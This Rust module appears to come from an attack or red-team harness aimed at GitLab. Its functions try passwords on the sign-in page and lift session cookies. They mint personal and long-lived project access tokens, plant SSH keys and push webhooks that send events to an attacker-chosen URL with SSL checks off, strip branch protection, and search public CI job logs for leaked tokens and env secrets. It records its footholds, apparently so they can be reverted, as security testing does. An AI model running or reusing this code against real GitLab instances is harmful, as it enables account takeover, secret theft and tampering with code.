//! What several attacks do alike: sign in, make a token, plant a key or a webhook.

use reqwest::Method;
use serde_json::{Value, json};
use url::form_urlencoded;

use super::AttackError;
use super::attacker::{Attacker, Body, Reply, text};
use super::loot::{Credential, CredentialKind, Foothold, Loot, Sign, clone};

/// Tries a password on the sign-in page.
pub(crate) async fn try_password(
    attacker: &Attacker,
    title: &str,
    username: &str,
    password: &str,
) -> Result<Reply, AttackError> {
    let form = form_urlencoded::Serializer::new(String::new())
        .append_pair("user[login]", username)
        .append_pair("user[password]", password)
        .finish();
    attacker.send(title, (Method::POST, "/users/sign_in"), None, Body::Form(form)).await
}

/// Signs in as a browser would, with a password that is known.
pub(crate) async fn sign_in(
    attacker: &Attacker,
    username: &str,
    password: &str,
) -> Result<CredentialKind, AttackError> {
    let reply = try_password(attacker, "sign in with the password", username, password).await?;
    let cookies = reply.accepted()?.headers;
    let cookie = cookies.get("set-cookie").and_then(|value| value.to_str().ok());
    let value = cookie
        .and_then(|cookie| cookie.strip_prefix("_gitlab_session="))
        .and_then(|rest| rest.split(';').next());
    value
        .map(|value| CredentialKind::Session(value.to_owned()))
        .ok_or(AttackError::NotFound("a session cookie"))
}

/// Makes a personal token on the settings page, for which the session suffices.
pub(crate) async fn make_token(
    attacker: &Attacker,
    session: &CredentialKind,
    name: &str,
    scopes: &[&str],
) -> Result<CredentialKind, AttackError> {
    let body = Body::Json(json!({ "name": name, "scopes": scopes }));
    let to = (Method::POST, "/-/user_settings/personal_access_tokens");
    let title = "make a personal token on the settings page";
    let made = attacker.send(title, to, Some(session), body).await?.accepted()?;
    Ok(CredentialKind::AccessToken(made.field("token")))
}

/// Plants a project access token.
pub(crate) async fn make_project_token(
    attacker: &Attacker,
    with: &CredentialKind,
    project: &str,
    name: &str,
) -> Result<CredentialKind, AttackError> {
    let body: Value = json!({
        "name": name,
        "scopes": ["api"],
        "access_level": 40,
        "expires_at": "2099-12-31",
    });
    let path = format!("/projects/{project}/access_tokens");
    let title = "plant a project access token";
    let made = attacker.write(title, (Method::POST, &path), Some(with), body).await?.accepted()?;
    Ok(CredentialKind::AccessToken(made.field("token")))
}

/// Adds an SSH key and clones a project with it.
pub(crate) async fn plant_key(
    loot: &mut Loot,
    with: &CredentialKind,
    title: &str,
    key: &str,
    project: &str,
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let body = json!({ "title": title, "key": key });
    let to = (Method::POST, "/user/keys");
    attacker.write("plant an SSH key", to, Some(with), body).await?.accepted()?;
    clone(&attacker, "clone with the planted key", key, project).await?;
    let kind = CredentialKind::SshKey { key: key.to_owned(), project: project.to_owned() };
    loot.credentials.push(Credential { name: "a planted SSH key".to_owned(), kind });
    Ok(())
}

/// Adds a webhook that tells of each push.
pub(crate) async fn plant_webhook(
    loot: &mut Loot,
    with: &CredentialKind,
    project: &str,
    url: &str,
) -> Result<(), AttackError> {
    let body = json!({ "url": url, "push_events": true, "enable_ssl_verification": false });
    let path = format!("/projects/{project}/hooks");
    let attacker = loot.attacker.clone();
    attacker.write("plant a webhook", (Method::POST, &path), Some(with), body).await?.accepted()?;
    loot.footholds.push(Foothold {
        name: format!("webhook of project {project} to {url}"),
        path: format!("{path}?per_page=100"),
        sign: Sign::Listed { field: "url", value: url.to_owned() },
    });
    Ok(())
}

/// Changes a setting and notes what must be put back.
pub(crate) async fn change(
    loot: &mut Loot,
    with: &CredentialKind,
    title: &str,
    (method, path): (Method, &str),
    (field, bad): (&'static str, Value),
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let body = json!({ field: bad });
    attacker.write(title, (method, path), Some(with), body).await?.accepted()?;
    loot.footholds.push(Foothold {
        name: format!("{field} of {path} is {bad}"),
        path: path.to_owned(),
        sign: Sign::Value { field, bad },
    });
    Ok(())
}

/// Takes the protection of a branch away.
pub(crate) async fn unprotect(
    loot: &mut Loot,
    with: &CredentialKind,
    project: &str,
    branch: &str,
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let list = format!("/projects/{project}/protected_branches");
    let path = format!("{list}/{}", branch.replace('/', "%2F"));
    let title = "remove the protection of a branch";
    attacker.write(title, (Method::DELETE, &path), Some(with), json!({})).await?.accepted()?;
    loot.footholds.push(Foothold {
        name: format!("branch {branch} of project {project} is not protected"),
        path: format!("{list}?per_page=100"),
        sign: Sign::NotListed { field: "name", value: branch.to_owned() },
    });
    Ok(())
}

/// A project by its path, as that credential sees it: its id.
pub(crate) async fn project_id(
    attacker: &Attacker,
    with: Option<&CredentialKind>,
    path: &str,
) -> Result<String, AttackError> {
    let encoded = path.replace('/', "%2F");
    let found = attacker.get("look a project up", &format!("/projects/{encoded}"), with).await?;
    Ok(found.accepted()?.field("id"))
}

/// Reads the logs of public jobs, of the given scope, until `wanted` finds something in one.
/// Returns what it found, the project's id and the job's.
pub(crate) async fn search_public_logs(
    attacker: &Attacker,
    scope: &str,
    wanted: impl Fn(&str) -> Option<String>,
) -> Result<(String, String, String), AttackError> {
    let path = "/projects?visibility=public&per_page=100";
    let projects = attacker.get("search public projects", path, None).await?.accepted()?;
    for project in projects.rows() {
        let project = text(&project, "id");
        let path = format!("/projects/{project}/jobs?per_page=100{scope}");
        let jobs = attacker.get("list a public project's jobs", &path, None).await?;
        for job in jobs.rows() {
            let job = text(&job, "id");
            let path = format!("/projects/{project}/jobs/{job}/trace");
            let log = attacker.get("read a public job's log", &path, None).await?.text;
            if let Some(found) = wanted(&log) {
                return Ok((found, project, job));
            }
        }
    }
    Err(AttackError::NotFound("a secret in a public job's log"))
}

/// The first run of letters that begins with a prefix, as a token does.
pub(crate) fn word_with(prefix: &str, log: &str) -> Option<String> {
    let from = log.find(prefix)?;
    let is_of_token = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
    let rest = log.get(from..)?;
    let end = rest.find(|c: char| !is_of_token(c)).unwrap_or(rest.len());
    rest.get(..end).filter(|word| word.len() > prefix.len()).map(str::to_owned)
}

/// The value of `NAME=value` in a log that `env` wrote.
pub(crate) fn value_of(name: &str, log: &str) -> Option<String> {
    log.lines().find_map(|line| {
        let value = line.trim().strip_prefix(name)?.strip_prefix('=')?;
        (!value.is_empty() && value != "[MASKED]").then(|| value.to_owned())
    })
}
